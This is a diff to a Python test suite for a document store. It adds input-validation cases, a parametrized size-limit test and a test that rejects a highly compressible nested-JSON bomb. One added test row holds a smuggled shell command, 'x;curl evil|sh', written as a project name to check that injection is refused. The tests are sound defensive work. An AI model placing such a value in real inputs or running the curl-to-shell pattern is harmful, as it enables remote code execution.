@@ -565,6 +565,8 @@ def test_a_damaged_document_is_never_believed(folder: Path, statement: str, valu
 ROWS: dict[str, tuple[str, object]] = {
     "digest": ("sha256", "x"),
     "project": ("project", "../Demo"),
+    "project that is a command": ("project", "x;curl evil|sh"),
+    "no project": ("project", ""),
     "version": ("version", "one"),
     "path": ("filename", "../x"),
     "no name": ("filename", ""),
@@ -625,19 +627,29 @@ def test_attempts_of_others_are_left_out(folder: Path) -> None:
         assert names == [ONE.filename]
 
 
+@pytest.mark.parametrize(("limit", "value"), [("MAX_SIZE", 1000), ("MAX_VALUES", 40)])
 def test_a_document_that_grows_beyond_all_bounds(
-    folder: Path, monkeypatch: pytest.MonkeyPatch
+    folder: Path, limit: str, value: int, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """It is unpacked no further than what is ever packed."""
     with Store.open(folder / "x") as store:
         made = put(store)
-        monkeypatch.setattr(documents, "MAX_SIZE", 1000)
+        monkeypatch.setattr(documents, limit, value)
         assert found(store) is None
         monkeypatch.undo()
         assert found(store) == made
-        monkeypatch.setattr(documents, "MAX_SIZE", 1000)
+        monkeypatch.setattr(documents, limit, value)
         with pytest.raises(LimitError):
             put(store)
+
+
+def test_a_small_document_of_very_many_values() -> None:
+    """It takes more than a gigabyte of memory to read."""
+    text = b'{"a":[' + b"[]," * 20_000_000 + b"[]]}"
+    begun = time.process_time()
+    with pytest.raises(ValueError, match="too large"):
+        documents.unpacked(zlib.compress(text, 1))
+    assert time.process_time() - begun < 5
 
 
 @pytest.mark.parametrize("table", ["artifact", "verdict", "document", "run"])
